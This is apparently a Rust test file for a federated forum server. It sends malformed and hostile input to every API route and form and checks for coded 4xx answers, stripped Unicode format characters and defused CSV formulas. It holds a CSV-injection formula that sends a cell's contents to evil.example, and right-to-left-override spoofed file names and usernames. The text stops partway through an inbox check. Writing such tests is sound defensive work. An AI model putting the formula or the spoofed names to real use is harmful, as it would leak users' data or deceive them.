@@ -1,0 +1,1112 @@
+//! Hostile input, on both engines: every route of the JSON API and every
+//! form of the pages receives malformed bodies (bad JSON, wrong types,
+//! U+0000, invalid UTF-8, huge numbers, oversize), bad path parameters and
+//! bad query strings, and must answer a 4xx with a stable code (the JSON
+//! `code` on the API, an HTML error page on pages) — never a 5xx, never
+//! plain text — and the process must go on serving. Then each class of
+//! issue 10 item 6 is checked by name: path and query errors, page
+//! numbers, the inbox's `Content-Type`, Unicode format characters in names,
+//! formula cells in CSV exports, and remote user names that read as
+//! another handle.
+//!
+//! The route tables below are the list of what is swept: a route added to
+//! `src/api/mod.rs` or a form added to `src/web/mod.rs` without a line here
+//! fails [`the_route_tables_cover_the_router`].
+
+use super::forums::{teacher, PASSWORD};
+use super::projects::logged_in;
+use super::support::*;
+use serde_json::{json, Value};
+use std::collections::BTreeSet;
+
+/// How an API route reads its body.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Body {
+    /// `ApiJson`: every malformed body must be refused.
+    Json,
+    /// No body is read: a malformed one is ignored, never a 5xx.
+    Ignored,
+}
+
+/// Every route of the JSON API, as written in `src/api/mod.rs`.
+const API_ROUTES: &[(&str, &str, Body)] = &[
+    ("GET", "/instance", Body::Ignored),
+    ("POST", "/accounts", Body::Json),
+    ("POST", "/accounts/verify", Body::Json),
+    ("POST", "/accounts/resend-verification", Body::Json),
+    ("POST", "/password/forgot", Body::Json),
+    ("POST", "/password/reset", Body::Json),
+    ("POST", "/sessions", Body::Json),
+    ("DELETE", "/sessions/current", Body::Ignored),
+    ("GET", "/me", Body::Ignored),
+    ("PUT", "/me/profile", Body::Json),
+    ("GET", "/profiles/{name}", Body::Ignored),
+    ("GET", "/lookup", Body::Ignored),
+    ("GET", "/directory", Body::Ignored),
+    ("GET", "/forums", Body::Ignored),
+    ("POST", "/forums", Body::Json),
+    ("POST", "/forums/follow", Body::Json),
+    ("GET", "/forums/{name}", Body::Ignored),
+    ("DELETE", "/forums/{name}/follow", Body::Ignored),
+    ("POST", "/forums/{name}/threads", Body::Json),
+    ("GET", "/threads/{id}", Body::Ignored),
+    ("POST", "/threads/{id}/replies", Body::Json),
+    ("POST", "/threads/{id}/{action}", Body::Ignored),
+    ("GET", "/forums/{name}/reports", Body::Ignored),
+    ("PUT", "/posts/{id}", Body::Json),
+    ("DELETE", "/posts/{id}", Body::Ignored),
+    ("POST", "/posts/{id}/like", Body::Ignored),
+    ("DELETE", "/posts/{id}/like", Body::Ignored),
+    ("POST", "/posts/{id}/report", Body::Json),
+    ("POST", "/posts/{id}/remove", Body::Json),
+    ("GET", "/projects", Body::Ignored),
+    ("POST", "/projects", Body::Json),
+    ("GET", "/projects/lookup", Body::Ignored),
+    ("GET", "/projects/{name}", Body::Ignored),
+    ("POST", "/projects/{name}/invite", Body::Json),
+    ("POST", "/projects/{name}/answer", Body::Json),
+    ("POST", "/projects/{name}/join", Body::Ignored),
+    ("POST", "/projects/{name}/leave", Body::Ignored),
+    ("POST", "/projects/{name}/members/{id}", Body::Json),
+    ("GET", "/projects/{name}/threads", Body::Ignored),
+    ("POST", "/projects/{name}/threads", Body::Json),
+    ("GET", "/projects/{name}/threads/{id}", Body::Ignored),
+    ("POST", "/projects/{name}/threads/{id}/replies", Body::Json),
+    ("GET", "/projects/{name}/documents", Body::Ignored),
+    ("GET", "/projects/{name}/events", Body::Ignored),
+    ("POST", "/projects/{name}/events", Body::Json),
+    ("GET", "/me/requests", Body::Ignored),
+    ("POST", "/contacts", Body::Json),
+    ("POST", "/contacts/{id}/answer", Body::Json),
+    ("GET", "/admin/accounts", Body::Ignored),
+    ("POST", "/admin/accounts/{name}/approve", Body::Ignored),
+    ("POST", "/admin/accounts/{name}/suspend", Body::Ignored),
+];
+
+/// How a page route reads its form.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Form {
+    /// `CsrfForm`, URL-encoded.
+    Encoded,
+    /// `CsrfUpload`, multipart.
+    Multipart,
+}
+
+/// Every form (POST route) of the pages, as written in `src/web/mod.rs`.
+const FORM_ROUTES: &[(&str, Form)] = &[
+    ("/signup", Form::Encoded),
+    ("/verify/resend", Form::Encoded),
+    ("/login", Form::Encoded),
+    ("/logout", Form::Encoded),
+    ("/password/forgot", Form::Encoded),
+    ("/password/reset", Form::Encoded),
+    ("/settings/profile", Form::Encoded),
+    ("/admin/instances/{host}/recheck", Form::Encoded),
+    ("/admin/instances/{host}/manual", Form::Encoded),
+    ("/admin/users/{name}/approve", Form::Encoded),
+    ("/admin/users/{name}/suspend", Form::Encoded),
+    ("/forums", Form::Encoded),
+    ("/forums/follow", Form::Encoded),
+    ("/forums/{name}/threads", Form::Encoded),
+    ("/forums/{name}/unfollow", Form::Encoded),
+    ("/threads/{id}/replies", Form::Encoded),
+    ("/threads/{id}/moderate", Form::Encoded),
+    ("/post/{id}/edit", Form::Encoded),
+    ("/post/{id}/delete", Form::Encoded),
+    ("/post/{id}/like", Form::Encoded),
+    ("/post/{id}/report", Form::Encoded),
+    ("/post/{id}/remove", Form::Encoded),
+    ("/projects", Form::Encoded),
+    ("/projects/lookup", Form::Encoded),
+    ("/projects/{name}/edit", Form::Encoded),
+    ("/projects/{name}/invite", Form::Encoded),
+    ("/projects/{name}/join", Form::Encoded),
+    ("/projects/{name}/leave", Form::Encoded),
+    ("/projects/{name}/answer", Form::Encoded),
+    ("/projects/{name}/members/{member}", Form::Encoded),
+    ("/contacts", Form::Encoded),
+    ("/contacts/{id}/answer", Form::Encoded),
+    ("/projects/{name}/threads", Form::Encoded),
+    ("/projects/{name}/threads/{id}/replies", Form::Encoded),
+    ("/projects/{name}/documents", Form::Multipart),
+    ("/projects/{name}/events", Form::Encoded),
+];
+
+/// Path parameters that must be whole numbers.
+const NUMERIC_PARAMS: [&str; 3] = ["id", "member", "version"];
+
+/// Field names the routes read, each given a hostile value at once.
+const FIELDS: [&str; 26] = [
+    "name",
+    "title",
+    "body",
+    "description",
+    "login",
+    "password",
+    "email",
+    "username",
+    "display_name",
+    "handle",
+    "token",
+    "reason",
+    "action",
+    "accept",
+    "role",
+    "forum",
+    "text",
+    "bio",
+    "subjects",
+    "starts",
+    "ends",
+    "location",
+    "level",
+    "visibility",
+    "join_mode",
+    "next",
+];
+
+/// `(method, path)` of every `.route(…)` in a router source file.
+fn routes_in_source(source: &str) -> BTreeSet<(String, String)> {
+    let mut routes = BTreeSet::new();
+    for piece in source.split(".route(").skip(1) {
+        let piece = piece.split(".route(").next().unwrap_or_default();
+        let Some(path) = piece.split('"').nth(1) else {
+            continue;
+        };
+        for method in ["get", "post", "put", "delete"] {
+            let call = format!("{method}(");
+            let found = piece.match_indices(&call).any(|(at, _)| {
+                at == 0
+                    || !piece[..at]
+                        .chars()
+                        .last()
+                        .is_some_and(|c| c.is_alphanumeric() || c == '_')
+            });
+            if found {
+                routes.insert((method.to_uppercase(), path.to_string()));
+            }
+        }
+    }
+    routes
+}
+
+/// The tables and the routers list the same routes.
+#[test]
+fn the_route_tables_cover_the_router() {
+    let api = routes_in_source(include_str!("../../../src/api/mod.rs"));
+    let table: BTreeSet<(String, String)> = API_ROUTES
+        .iter()
+        .map(|(method, path, _)| (method.to_string(), path.to_string()))
+        .collect();
+    assert_eq!(
+        api.difference(&table).collect::<Vec<_>>(),
+        Vec::<&(String, String)>::new(),
+        "API routes missing from API_ROUTES in hostile.rs"
+    );
+    assert_eq!(
+        table.difference(&api).collect::<Vec<_>>(),
+        Vec::<&(String, String)>::new(),
+        "API_ROUTES lists routes the API does not have"
+    );
+    let forms: BTreeSet<String> = routes_in_source(include_str!("../../../src/web/mod.rs"))
+        .into_iter()
+        .filter(|(method, _)| method == "POST")
+        .map(|(_, path)| path)
+        .collect();
+    let table: BTreeSet<String> = FORM_ROUTES
+        .iter()
+        .map(|(path, _)| path.to_string())
+        .collect();
+    assert_eq!(forms, table, "FORM_ROUTES differs from the page routes");
+}
+
+/// What the sweep's path parameters stand for.
+struct Fixture {
+    thread_id: i64,
+}
+
+/// A route's path with real values in its parameters, one of them
+/// (`bad`) replaced by a hostile value.
+fn concrete(template: &str, fixture: &Fixture, bad: Option<(&str, &str)>) -> String {
+    let mut out = String::new();
+    let mut rest = template;
+    while let Some(start) = rest.find('{') {
+        let end = rest[start..].find('}').unwrap() + start;
+        let param = &rest[start + 1..end];
+        out.push_str(&rest[..start]);
+        let value = match bad {
+            Some((name, value)) if name == param => value.to_string(),
+            _ => match param {
+                "id" if template.starts_with("/contacts") => "1".to_string(),
+                "id" if template.contains("/members/") => "999".to_string(),
+                "id" => fixture.thread_id.to_string(),
+                "member" | "version" => "999".to_string(),
+                "action" => "pin".to_string(),
+                "host" => "peer.example".to_string(),
+                "name" if template.starts_with("/forums") => "maths".to_string(),
+                "name" if template.starts_with("/projects") => "eco".to_string(),
+                "name" => "bea".to_string(),
+                other => panic!("no value for {{{other}}} in {template}"),
+            },
+        };
+        out.push_str(&value);
+        rest = &rest[end + 1..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The parameters of a route's path.
+fn params_of(template: &str) -> Vec<&str> {
+    template
+        .split('{')
+        .skip(1)
+        .filter_map(|piece| piece.split('}').next())
+        .collect()
+}
+
+/// An answer of the API: status, `Content-Type` and the parsed body.
+struct Answer {
+    status: u16,
+    content_type: String,
+    body: String,
+}
+
+impl Answer {
+    async fn of(response: reqwest::Response) -> Answer {
+        let status = response.status().as_u16();
+        let content_type = response
+            .headers()
+            .get("content-type")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default()
+            .to_string();
+        let body = response.text().await.unwrap_or_default();
+        Answer {
+            status,
+            content_type,
+            body,
+        }
+    }
+
+    fn code(&self) -> String {
+        serde_json::from_str::<Value>(&self.body)
+            .ok()
+            .and_then(|v| v["error"]["code"].as_str().map(str::to_string))
+            .unwrap_or_default()
+    }
+}
+
+/// A stable snake_case code.
+fn is_code(code: &str) -> bool {
+    !code.is_empty() && code.chars().all(|c| c.is_ascii_lowercase() || c == '_')
+}
+
+/// An API refusal: 4xx, JSON, a stable code (`expected` when given).
+#[track_caller]
+fn api_refused(what: &str, answer: &Answer, expected: Option<&str>) {
+    assert!(
+        (400..500).contains(&answer.status),
+        "{what}: {} {}",
+        answer.status,
+        answer.body
+    );
+    assert!(
+        answer.content_type.starts_with("application/json"),
+        "{what}: {} {}",
+        answer.content_type,
+        answer.body
+    );
+    let code = answer.code();
+    assert!(is_code(&code), "{what}: no code in {}", answer.body);
+    if let Some(expected) = expected {
+        assert_eq!(code, expected, "{what}: {}", answer.body);
+    }
+}
+
+/// An API answer to input it may ignore: never a 5xx, and a refusal has a
+/// code.
+#[track_caller]
+fn api_survived(what: &str, answer: &Answer) {
+    assert!(
+        answer.status < 500,
+        "{what}: {} {}",
+        answer.status,
+        answer.body
+    );
+    if answer.status >= 400 && answer.status != 405 {
+        api_refused(what, answer, None);
+    }
+}
+
+/// A page refusal: 4xx and the HTML error page, never plain text.
+#[track_caller]
+fn page_refused(what: &str, answer: &Answer, status: Option<u16>) {
+    assert!(
+        (400..500).contains(&answer.status),
+        "{what}: {} {}",
+        answer.status,
+        answer.body
+    );
+    if let Some(status) = status {
+        assert_eq!(answer.status, status, "{what}: {}", answer.body);
+    }
+    assert!(
+        answer.content_type.starts_with("text/html"),
+        "{what}: {} {}",
+        answer.content_type,
+        answer.body
+    );
+}
+
+/// A JSON object whose every known field holds `value`.
+fn every_field(value: Value) -> Value {
+    Value::Object(
+        FIELDS
+            .iter()
+            .map(|field| (field.to_string(), value.clone()))
+            .collect(),
+    )
+}
+
+/// The malformed bodies sent to every JSON route: a name, the bytes, the
+/// `Content-Type`, and the code expected.
+fn malformed_json_bodies() -> Vec<(&'static str, Vec<u8>, &'static str, &'static str)> {
+    let json = "application/json";
+    let mut wrong_types = every_field(json!([1, {"a": true}]));
+    wrong_types["id"] = json!("x");
+    vec![
+        (
+            "truncated JSON",
+            b"{\"title\": ".to_vec(),
+            json,
+            "invalid_json",
+        ),
+        ("not JSON", b"title=x".to_vec(), json, "invalid_json"),
+        (
+            "wrong types",
+            wrong_types.to_string().into_bytes(),
+            json,
+            "invalid_json",
+        ),
+        (
+            "U+0000 in every field",
+            every_field(json!("x\u{0}y")).to_string().into_bytes(),
+            json,
+            "invalid_text",
+        ),
+        (
+            "U+0000 in a nested string",
+            json!({"subjects": ["SVT", "a\u{0}"], "x\u{0}": 1})
+                .to_string()
+                .into_bytes(),
+            json,
+            "invalid_text",
+        ),
+        (
+            "invalid UTF-8",
+            b"{\"title\": \"\xff\xfe\", \"name\": \"\xc3\"}".to_vec(),
+            json,
+            "invalid_json",
+        ),
+        (
+            "number out of range",
+            b"{\"id\": 1e999, \"title\": 1}".to_vec(),
+            json,
+            "invalid_json",
+        ),
+        (
+            "huge integers",
+            every_field(json!(123456789012345678901234567890.0_f64))
+                .to_string()
+                .into_bytes(),
+            json,
+            "invalid_json",
+        ),
+        (
+            "oversize",
+            json!({"title": "x".repeat(1_200_000)})
+                .to_string()
+                .into_bytes(),
+            json,
+            "payload_too_large",
+        ),
+        (
+            "not declared as JSON",
+            b"{\"title\": \"x\"}".to_vec(),
+            "text/plain",
+            "invalid_json",
+        ),
+    ]
+}
+
+/// Sends one API request.
+async fn api_send(
+    instance: &TestInstance,
+    method: &str,
+    path: &str,
+    token: &str,
+    body: Option<(&[u8], &str)>,
+) -> Answer {
+    let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
+    let url = instance.url(&format!("/api/v1{path}"));
+    answer_of(|| {
+        let mut request = api_client()
+            .request(method.clone(), &url)
+            .bearer_auth(token);
+        if let Some((bytes, content_type)) = body {
+            request = request
+                .header("content-type", content_type)
+                .body(bytes.to_vec());
+        }
+        request
+    })
+    .await
+}
+
+/// Sends a request and reads its answer. A server that refuses an
+/// oversize body answers before reading it all and closes the connection;
+/// a client still sending may then see the connection reset before it
+/// reads the answer (a race of the sockets, not of the server). Such a
+/// request is sent again, a bounded number of times; a server that never
+/// answers fails the test.
+async fn answer_of(build: impl Fn() -> reqwest::RequestBuilder) -> Answer {
+    let mut last_error = None;
+    for _ in 0..10 {
+        match build().send().await {
+            Ok(response) => return Answer::of(response).await,
+            Err(error) if error.is_request() || error.is_connect() => last_error = Some(error),
+            Err(error) => panic!("{error}"),
+        }
+    }
+    panic!("no answer after 10 attempts: {last_error:?}")
+}
+
+/// A token of `name`, for routes that end the session they are sent with.
+async fn fresh_token(instance: &TestInstance, name: &str) -> String {
+    let session: Value = api_client()
+        .post(instance.url("/api/v1/sessions"))
+        .json(&json!({"login": name, "password": PASSWORD}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    session["token"].as_str().unwrap().to_string()
+}
+
+/// The instance still serves a page and the API.
+async fn still_alive(instance: &TestInstance, what: &str) {
+    let response = api_client()
+        .get(instance.url("/api/v1/instance"))
+        .send()
+        .await
+        .unwrap_or_else(|error| panic!("{what}: the instance stopped answering: {error}"));
+    assert_eq!(response.status(), 200, "{what}");
+    let response = api_client().get(instance.url("/")).send().await.unwrap();
+    assert_eq!(response.status(), 200, "{what}");
+}
+
+/// An instance with an admin (anne), a teacher (bea), a forum `maths` with
+/// a thread, and a project `eco`.
+async fn prepared(engine: Engine) -> (TestInstance, String, Fixture) {
+    let (settings, dir) = settings(engine, None);
+    let instance = start(engine, settings, dir).await;
+    let anne = teacher(&instance, "anne", true).await;
+    teacher(&instance, "bea", false).await;
+    let created = api_send(
+        &instance,
+        "POST",
+        "/forums",
+        &anne,
+        Some((
+            json!({"name": "maths", "title": "Maths", "description": "Entre profs"})
+                .to_string()
+                .as_bytes(),
+            "application/json",
+        )),
+    )
+    .await;
+    assert_eq!(created.status, 201, "{}", created.body);
+    let thread = api_send(
+        &instance,
+        "POST",
+        "/forums/maths/threads",
+        &anne,
+        Some((
+            json!({"title": "Fractions", "body": "Comment les introduire ?"})
+                .to_string()
+                .as_bytes(),
+            "application/json",
+        )),
+    )
+    .await;
+    assert_eq!(thread.status, 201, "{}", thread.body);
+    let thread_id = serde_json::from_str::<Value>(&thread.body).unwrap()["id"]
+        .as_i64()
+        .unwrap();
+    let project = api_send(
+        &instance,
+        "POST",
+        "/projects",
+        &anne,
+        Some((
+            json!({"name": "eco", "title": "Éco-délégués", "description": "Un projet"})
+                .to_string()
+                .as_bytes(),
+            "application/json",
+        )),
+    )
+    .await;
+    assert_eq!(project.status, 201, "{}", project.body);
+    (instance, anne, Fixture { thread_id })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
+    for engine in engines() {
+        let (instance, anne, fixture) = prepared(engine).await;
+
+        for &(method, template, body) in API_ROUTES {
+            let token = if template == "/sessions/current" {
+                fresh_token(&instance, "anne").await
+            } else {
+                anne.clone()
+            };
+            let path = concrete(template, &fixture, None);
+            // Malformed bodies.
+            for (name, bytes, content_type, code) in malformed_json_bodies() {
+                let token = if template == "/sessions/current" {
+                    fresh_token(&instance, "anne").await
+                } else {
+                    token.clone()
+                };
+                let what = format!("{engine:?} {method} {template}: {name}");
+                let answer = api_send(
+                    &instance,
+                    method,
+                    &path,
+                    &token,
+                    Some((&bytes, content_type)),
+                )
+                .await;
+                match body {
+                    Body::Json => api_refused(&what, &answer, Some(code)),
+                    Body::Ignored => api_survived(&what, &answer),
+                }
+            }
+            // Bad path parameters.
+            for param in params_of(template) {
+                let numeric = NUMERIC_PARAMS.contains(&param);
+                for (value, code) in [
+                    ("%00", Some("invalid_text")),
+                    ("x%00y", Some("invalid_text")),
+                    ("abc", numeric.then_some("invalid_path")),
+                    ("99999999999999999999999", numeric.then_some("invalid_path")),
+                    ("-1", None),
+                    ("%FF%FE", Some("invalid_path")),
+                ] {
+                    let path = concrete(template, &fixture, Some((param, value)));
+                    let what = format!("{engine:?} {method} {path}");
+                    let answer = api_send(&instance, method, &path, &token, None).await;
+                    match code {
+                        Some(code) => api_refused(&what, &answer, Some(code)),
+                        None => api_survived(&what, &answer),
+                    }
+                }
+            }
+            // Bad query strings: ignored by routes without a query, refused
+            // with a code by the others.
+            for query in [
+                "page=%00&q=%00&handle=%00&status=%00&kind=%00",
+                "page=abc",
+                "page=-1",
+                "page=0",
+                "page=99999999999999999999999",
+                "page=1&page=2",
+                "q=%FF%FE",
+                "%zz=%&&=",
+            ] {
+                let what = format!("{engine:?} {method} {path}?{query}");
+                let answer =
+                    api_send(&instance, method, &format!("{path}?{query}"), &token, None).await;
+                api_survived(&what, &answer);
+            }
+        }
+        still_alive(&instance, "after the API sweep").await;
+
+        // The forms, logged in as the admin so that every handler is
+        // reached. No case below is well formed, so none takes effect (the
+        // log-out form included).
+        let client = logged_in(&instance, "anne").await;
+        let token = page_token(&client, &instance.url("/settings/profile")).await;
+        for &(template, form) in FORM_ROUTES {
+            let path = concrete(template, &fixture, None);
+            let send = |path: String, content_type: String, bytes: Vec<u8>| {
+                let client = client.clone();
+                let url = instance.url(&path);
+                async move {
+                    answer_of(|| {
+                        client
+                            .post(&url)
+                            .header("content-type", content_type.clone())
+                            .body(bytes.clone())
+                    })
+                    .await
+                }
+            };
+            let encoded = "application/x-www-form-urlencoded".to_string();
+            let with_token = |rest: &str| format!("csrf_token={token}&{rest}").into_bytes();
+            let nul_fields: String = FIELDS
+                .iter()
+                .map(|field| format!("{field}=x%00y"))
+                .collect::<Vec<_>>()
+                .join("&");
+            let mut cases: Vec<(&str, String, Vec<u8>, Option<u16>)> = vec![(
+                "oversize",
+                encoded.clone(),
+                with_token(&format!("title={}", "x".repeat(2_100_000))),
+                None,
+            )];
+            match form {
+                Form::Encoded => {
+                    cases.push((
+                        "no CSRF token",
+                        encoded.clone(),
+                        b"title=x".to_vec(),
+                        Some(403),
+                    ));
+                    cases.push((
+                        "U+0000",
+                        encoded.clone(),
+                        with_token(&nul_fields),
+                        Some(400),
+                    ));
+                    cases.push((
+                        "invalid UTF-8",
+                        encoded.clone(),
+                        with_token("title=%FF%FE&body=%C3&name=%80"),
+                        Some(400),
+                    ));
+                    cases.push((
+                        "raw invalid UTF-8",
+                        encoded.clone(),
+                        [with_token("title="), b"\xff\xfe".to_vec()].concat(),
+                        Some(400),
+                    ));
+                }
+                Form::Multipart => {
+                    let boundary = "hostileboundary";
+                    let part = |name: &str, file: Option<&str>, value: &str| {
+                        let disposition = match file {
+                            Some(file) => format!("name=\"{name}\"; filename=\"{file}\""),
+                            None => format!("name=\"{name}\""),
+                        };
+                        format!(
+                            "--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n"
+                        )
+                    };
+                    let multipart = format!("multipart/form-data; boundary={boundary}");
+                    let nul_field = format!(
+                        "{}{}{}--{boundary}--\r\n",
+                        part("csrf_token", None, &token),
+                        part("title", None, "x\u{0}y"),
+                        part("file", Some("notes.txt"), "bonjour"),
+                    );
+                    let nul_file = format!(
+                        "{}{}--{boundary}--\r\n",
+                        part("csrf_token", None, &token),
+                        part("file", Some("no\u{0}tes.txt"), "bonjour"),
+                    );
+                    let no_token = format!(
+                        "{}{}--{boundary}--\r\n",
+                        part("title", None, "x"),
+                        part("file", Some("notes.txt"), "bonjour"),
+                    );
+                    cases.push((
+                        "no CSRF token",
+                        multipart.clone(),
+                        no_token.into_bytes(),
+                        Some(403),
+                    ));
+                    cases.push((
+                        "U+0000 in a field",
+                        multipart.clone(),
+                        nul_field.into_bytes(),
+                        Some(400),
+                    ));
+                    cases.push((
+                        "U+0000 in a file name",
+                        multipart.clone(),
+                        nul_file.into_bytes(),
+                        Some(400),
+                    ));
+                    cases.push((
+                        "not multipart",
+                        encoded.clone(),
+                        with_token("title=x"),
+                        Some(400),
+                    ));
+                    cases.push((
+                        "broken multipart",
+                        multipart.clone(),
+                        format!("--{boundary}\r\nContent-Disp").into_bytes(),
+                        Some(400),
+                    ));
+                }
+            }
+            for (name, content_type, bytes, status) in cases {
+                let what = format!("{engine:?} POST {template}: {name}");
+                let answer = send(path.clone(), content_type, bytes).await;
+                page_refused(&what, &answer, status);
+            }
+            for param in params_of(template) {
+                let numeric = NUMERIC_PARAMS.contains(&param);
+                for (value, status) in [
+                    ("%00", Some(400)),
+                    ("abc", numeric.then_some(400)),
+                    ("99999999999999999999999", numeric.then_some(400)),
+                ] {
+                    let path = concrete(template, &fixture, Some((param, value)));
+                    let what = format!("{engine:?} POST {path}");
+                    let answer = send(path, encoded.clone(), with_token("title=x")).await;
+                    match status {
+                        Some(status) => page_refused(&what, &answer, Some(status)),
+                        None => assert!(answer.status < 500, "{what}: {}", answer.status),
+                    }
+                }
+            }
+        }
+        // Still logged in: no malformed log-out took effect.
+        let response = client
+            .get(instance.url("/settings/profile"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 200, "{engine:?}");
+        still_alive(&instance, "after the form sweep").await;
+        instance.stop().await;
+    }
+}
+
+/// A server that is not Préau: WebFinger and actor documents for any name;
+/// `alice` and `rlo` have a `preferredUsername` no server allows. Not a
+/// Préau route, so axum's own extractors are fine here.
+#[allow(clippy::disallowed_types)]
+async fn fake_server(public_key_pem: String) -> String {
+    use axum::{extract::Query, http::header, response::IntoResponse, routing::get, Router};
+    use std::collections::HashMap;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let origin = format!("http://localhost:{}", listener.local_addr().unwrap().port());
+    let base = origin.clone();
+    let webfinger = move |Query(query): Query<HashMap<String, String>>| {
+        let base = base.clone();
+        async move {
+            let resource = query.get("resource").cloned().unwrap_or_default();
+            let name = resource
+                .trim_start_matches("acct:")
+                .split('@')
+                .next()
+                .unwrap_or_default()
+                .to_string();
+            (
+                [(header::CONTENT_TYPE, "application/jrd+json")],
+                json!({
+                    "subject": resource,
+                    "links": [{"rel": "self", "type": "application/activity+json",
+                               "href": format!("{base}/users/{name}")}]
+                })
+                .to_string(),
+            )
+                .into_response()
+        }
+    };
+    let base = origin.clone();
+    let actor = move |axum::extract::Path(name): axum::extract::Path<String>| {
+        let base = base.clone();
+        let pem = public_key_pem.clone();
+        async move {
+            let id = format!("{base}/users/{name}");
+            let preferred = match name.as_str() {
+                "alice" => "alice@academie.example",
+                "rlo" => "eve\u{202E}",
+                other => other,
+            };
+            (
+                [(header::CONTENT_TYPE, "application/activity+json")],
+                json!({
+                    "@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
+                    "id": id,
+                    "type": "Person",
+                    "preferredUsername": preferred,
+                    "name": "Name\u{202E}txt.exe",
+                    "inbox": format!("{id}/inbox"),
+                    "publicKey": {"id": format!("{id}#main-key"), "owner": id, "publicKeyPem": pem},
+                })
+                .to_string(),
+            )
+                .into_response()
+        }
+    };
+    let app = Router::new()
+        .route("/.well-known/webfinger", get(webfinger))
+        .route("/users/{name}", get(actor));
+    tokio::spawn(async move {
+        axum::serve(listener, app).await.unwrap();
+    });
+    origin
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_hostile_class_answers_its_own_code() {
+    for engine in engines() {
+        let (instance, anne, fixture) = prepared(engine).await;
+        let api = |path: &str| instance.url(&format!("/api/v1{path}"));
+        let get = |url: String| async move {
+            Answer::of(api_client().get(url).send().await.unwrap()).await
+        };
+
+        // Path and query errors on the API: JSON with a code.
+        for path in [
+            "/threads/abc",
+            "/threads/99999999999999999999",
+            "/threads/1.5",
+        ] {
+            api_refused(path, &get(api(path)).await, Some("invalid_path"));
+        }
+        for page in ["abc", "0", "-1", "99999999999999999999", "1.5"] {
+            let path = format!("/forums/maths?page={page}");
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+            let path = format!("/threads/{}?page={page}", fixture.thread_id);
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+            let path = format!("/directory?page={page}");
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+        }
+        assert_eq!(get(api("/forums/maths?page=1")).await.status, 200);
+        assert_eq!(get(api("/forums/maths?page=")).await.status, 200);
+        let answer = get(api("/forums/maths?page=1&page=2")).await;
+        api_refused("twice", &answer, Some("invalid_query"));
+
+        // The same on pages: the HTML error page.
+        for path in [
+            "/threads/abc",
+            "/threads/99999999999999999999",
+            "/post/x/edit",
+        ] {
+            let answer = get(instance.url(path)).await;
+            if path.starts_with("/post/") {
+                assert_eq!(answer.status, 405, "{path}");
+                continue;
+            }
+            page_refused(path, &answer, Some(400));
+        }
+        for page in ["0", "-1", "abc"] {
+            let path = format!("/forums/maths?page={page}");
+            page_refused(&path, &get(instance.url(&path)).await, Some(422));
+            let path = format!("/threads/{}?page={page}", fixture.thread_id);
+            page_refused(&path, &get(instance.url(&path)).await, Some(422));
+        }
+        assert_eq!(get(instance.url("/forums/maths?page=1")).await.status, 200);
+
+        // U+0000 where no account is needed: log-in, profiles, forums,
+        // WebFinger, the directory.
+        let answer = Answer::of(
+            api_client()
+                .post(api("/sessions"))
+                .json(&json!({"login": "an\u{0}ne", "password": PASSWORD}))
+                .send()
+                .await
+                .unwrap(),
+        )
+        .await;
+        api_refused("log-in", &answer, Some("invalid_text"));
+        for path in [
+            "/profiles/an%00ne",
+            "/forums/ma%00ths",
+            "/directory?q=%00",
+            "/directory?place=a%00",
+        ] {
+            api_refused(path, &get(api(path)).await, Some("invalid_text"));
+        }
+        let answer = get(instance.url(&format!(
+            "/.well-known/webfinger?resource=acct:an%00ne@{}",
+            instance.domain
+        )))
+        .await;
+        api_refused("webfinger", &answer, Some("invalid_text"));
+        page_refused(
+            "page",
+            &get(instance.url("/users/an%00ne")).await,
+            Some(400),
+        );
+        page_refused(
+            "directory page",
+            &get(instance.url("/directory?q=a%00")).await,
+            Some(400),
+        );
+
+        // Unicode format characters leave names, local ones at least.
+        let put = |path: &str, body: Value| {
+            let url = api(path);
+            let anne = anne.clone();
+            async move {
+                Answer::of(
+                    api_client()
+                        .put(url)
+                        .bearer_auth(anne)
+                        .json(&body)
+                        .send()
+                        .await
+                        .unwrap(),
+                )
+                .await
+            }
+        };
+        let answer = put(
+            "/me/profile",
+            json!({"display_name": "\u{FEFF}Anne\u{202E}gpj.exe\u{200B}\u{2066}"}),
+        )
+        .await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let me: Value = api_client()
+            .get(api("/me"))
+            .bearer_auth(&anne)
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        assert_eq!(me["profile"]["display_name"], "Annegpj.exe", "{me}");
+        let thread = Answer::of(
+            api_client()
+                .post(api("/forums/maths/threads"))
+                .bearer_auth(&anne)
+                .json(&json!({"title": "rapport\u{202E}fdp.exe", "body": "x"}))
+                .send()
+                .await
+                .unwrap(),
+        )
+        .await;
+        assert_eq!(thread.status, 201, "{}", thread.body);
+        let thread: Value = serde_json::from_str(&thread.body).unwrap();
+        assert_eq!(thread["title"], "rapportfdp.exe", "{thread}");
+
+        // A formula as a display name is defused in the members CSV.
+        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Anne\")";
+        let answer = put("/me/profile", json!({"display_name": formula})).await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let browser = logged_in(&instance, "anne").await;
+        let csv = browser
+            .get(instance.url("/projects/eco/members.csv"))
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap();
+        assert!(csv.contains("'=HYPERLINK("), "{csv}");
+        assert!(
+            !csv.lines()
+                .any(|line| line.starts_with('=') || line.contains(",=") || line.contains(",\"=")),
+            "{csv}"
+        );
+        let admin_csv = browser
+            .get(instance.url("/admin/users.csv"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(admin_csv.status(), 200);
+
+        // The inbox takes ActivityPub documents only, checked before the
+        // signature.
+        let inbox = instance.url("/inbox");
